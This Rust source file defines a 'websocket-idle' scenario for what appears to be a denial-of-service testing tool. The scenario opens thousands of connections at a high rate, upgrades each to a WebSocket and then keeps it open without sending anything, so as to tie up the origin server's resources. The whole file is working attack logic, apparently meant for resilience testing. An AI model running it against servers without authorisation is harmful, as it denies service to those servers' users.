//! A19: connections that were upgraded and then say nothing.

use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, hold};
use crate::h1::{Reader, head};
use crate::scenario::flood::ask;
use std::sync::Arc;

/// The key of RFC 6455's example: its response is not verified.
const UPGRADE: &str = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[Scenario {
    name: "websocket-idle",
    vector: "A19",
    what: "WebSockets that are idle once they are open; the origin must accept them",
    needs: Needs::H1,
    connections: 2_000,
    rate: 500,
    addresses: EACH,
    spread: Spread::Wide,
    run: |attack| Box::pin(hold(attack, upgraded)),
}];

async fn upgraded(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let request = head("GET", attack.path_or("/__websocket"), attack.host(), UPGRADE).into_bytes();
    match ask(&attack, &mut wire, &mut Reader::new(), &request).await {
        Ok(answer) if answer.status == 101 => {
            wire.until_closed().await;
        }
        Ok(_) => attack.tally.event("not upgraded"),
        Err(_) => {}
    }
}
